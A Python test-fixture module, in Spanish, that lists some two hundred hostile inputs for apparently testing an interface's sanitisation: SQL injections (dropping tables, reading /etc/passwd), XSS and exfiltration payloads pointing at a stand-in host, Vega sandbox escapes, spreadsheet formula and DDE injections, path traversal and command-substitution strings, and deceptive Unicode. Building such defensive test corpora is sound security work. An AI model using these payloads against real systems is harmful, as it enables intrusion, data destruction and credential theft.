"""Más de doscientos textos hostiles, por lo que intentan. Si algo lograran, quedaría `window.__mal` o una petición a malo.ejemplo."""

from tests.interfaz.hostiles import HOSTILES

FUERA = "http://malo.ejemplo"
JS = "window.__mal=1"
SQL = [
    "' or 1=1 --", '" or ""="', "'; drop table sujetos; --", "1; delete from resultados", "') union select * from sujetos --",
    "'; attach ':memory:' as x; --", "'; copy sujetos to '/tmp/robo.csv'; --", "$1", "$clave_sujeto", "?", "%", "_", "%%' --",
    "\\'; select 1 --",
    "0); select * from read_text('/etc/passwd'); --", "/* x */ select 1", "'||(select version())||'", "1 and sleep(5)",
    "select 1;;select 2",
    "'; set enable_external_access=true; --", "'; install httpfs; load httpfs; --", "x' limit 0 --", "\"; pragma database_list; --",
    "'; create or replace table sujetos as select 1; --",
]  # fmt: skip
HTML = [
    f"<script>{JS}</script>", f"<ScRiPt>{JS}</sCrIpT>", f"<script/x>{JS}</script>", f"<script src={FUERA}/x.js></script>",
    f"<img src=x onerror={JS}>", f"<img/src='x'/onerror={JS}>", f"<IMG SRC=\"javascript:{JS}\">", f"<img src={FUERA}/i.png>",
    f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>", f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{JS}'><text>x</text></a></svg>", f"<math><mtext><img src=x onerror={JS}></mtext></math>",
    f"<body onload={JS}>", f"<iframe srcdoc=\"<script>parent.{JS}</script>\">", f"<iframe src=javascript:{JS}>", f"<iframe src={FUERA}>",
    f"<details open ontoggle={JS}>", f"<input autofocus onfocus={JS}>", f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<object data=javascript:{JS}>", f"<embed src=javascript:{JS}>", f"<object data={FUERA}/x.swf>",
    f"<link rel=stylesheet href={FUERA}/x.css>",
    f"<style>@import '{FUERA}/x.css'</style>", "<style>body{display:none}</style>",
    f"<div style=\"background:url({FUERA}/b.png)\">x</div>",
    f"<meta http-equiv=refresh content='0;url={FUERA}'>", f"<base href={FUERA}/>", f"<form action={FUERA}><button>Entrar</button></form>",
    f"<a href=javascript:{JS}>x</a>", f"<a href='{FUERA}' ping='{FUERA}'>x</a>", f"\"><script>{JS}</script>",
    f"'><img src=x onerror={JS}>",
    f"</title><script>{JS}</script>", f"</textarea><script>{JS}</script>", f"--><script>{JS}</script>", f"]]><script>{JS}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">", f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"%3Cscript%3E{JS}%3C/script%3E", f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e", f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"＜script＞{JS}＜/script＞", f"<template><script>{JS}</script></template>", f"<x onclick={JS} style=position:fixed;inset:0>x</x>",
    f"<portal src={FUERA}>", f"<img srcset={FUERA}/s.png>", f"<picture><source srcset={FUERA}/p.png><img></picture>",
]  # fmt: skip
MARKDOWN = [
    f"![x]({FUERA}/m.png)", f"![x][1]\n\n[1]: {FUERA}/r.png", f"[x](javascript:{JS})", f"[x]({FUERA})", f"<{FUERA}>",
    f"<javascript:{JS}>",
    f"[x](data:text/html,<script>{JS}</script>)", f"[x](vbscript:{JS})", f"[![x]({FUERA}/n.png)]({FUERA})", "[x][javascript]",
    f"$\\href{{javascript:{JS}}}{{x}}$", f"$\\includegraphics{{{FUERA}/l.png}}$", f"$\\htmlData{{x=y}}{{z}}\\url{{{FUERA}}}$",
    "$\\unicode{x3c}$",
    ":material/delete_forever:", ":red-background[x]", ":violet-badge[:material/star: x]", ":streamlit:", "```html\n<b>x</b>\n```",
    f"|a|b|\n|-|-|\n|![x]({FUERA}/t.png)|2|", "- [x] hecho", f"Nota[^1]\n\n[^1]: ![x]({FUERA}/f.png)",
]  # fmt: skip
VEGA = [
    "datum.valor", "datum['constructor']", f"'+({JS})+'", f"\"+({JS})+\"", "parent.datum", "event.view.eval('1')", "${datum.x}",
    "{{datum.x}}",
    f"datum.x.constructor.constructor('{JS}')()", f"toString.constructor('{JS}')()", f"[].filter.constructor('{JS}')()",
    f"event.vega.view().constructor.constructor('{JS}')()", "data('source_0')", "indata('x','y',1)", f"'{FUERA}/geo.json'",
    '{"signal": "width"}', '{"expr": "datum.valor"}', f'{{"url": "{FUERA}/datos.json"}}', f'{{"href": "javascript:{JS}"}}', "__proto__",
    "constructor", "toString", "hasOwnProperty", "datum[\"__proto__\"]", "a.b.c", "a\\.b", "a[0]", "NaN", "null", "undefined",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", f"=HYPERLINK(\"{FUERA}\",\"x\")", f"=IMPORTXML(\"{FUERA}\",\"//a\")",
    f"=WEBSERVICE(\"{FUERA}\")", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "{=1+1}", "'=1+1", "\"=1+1\"", " =1+1", "−1+1", "file:///etc/passwd", "internal:'Hoja'!A1", "mailto:x@malo.ejemplo",
]  # fmt: skip
RUTAS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\malo.ejemplo\\x", "//malo.ejemplo/x",
    "file:///etc/hosts", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%252f..%252fetc/passwd", "....//....//etc/passwd", "..;/..;/x",
    "~/.ssh/id_rsa",
    "nul", "CON", "a/b", "a\\b", "a\x00.csv", "-rf", "--help", ";id", "|id", "$(id)", "`id`", "&& id", "\nid", "%0d%0aSet-Cookie: a=b",
]  # fmt: skip
UNICODE = [
    "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200c\u200d", "\ufeffx", "\u2028x", "\u2029x",
    "e\u0301" * 20, "a" + "\u0300" * 60, "🏛️👩🏽‍⚖️",
    "\U000e0041\U000e0042", "\ufff9x\ufffb", "İıſK", "ﷺ" * 5, "\u115f\u1160", "𝐀𝐁𝐂", "аррӏе", "\x1b[31mx\x1b[0m", "\x07", "\x7f",
    "\x80\x9f",
    "٠١٢", "Ⅻ", "½", "x\u034f\u034fy", "\u3164",
]  # fmt: skip
GRUPOS = {
    "sql": SQL,
    "html": HTML,
    "markdown": [*MARKDOWN, *HOSTILES],
    "vega": VEGA,
    "formulas": FORMULAS,
    "rutas": RUTAS,
    "unicode": UNICODE,
}
TODOS = list(dict.fromkeys(hostil for grupo in GRUPOS.values() for hostil in grupo))
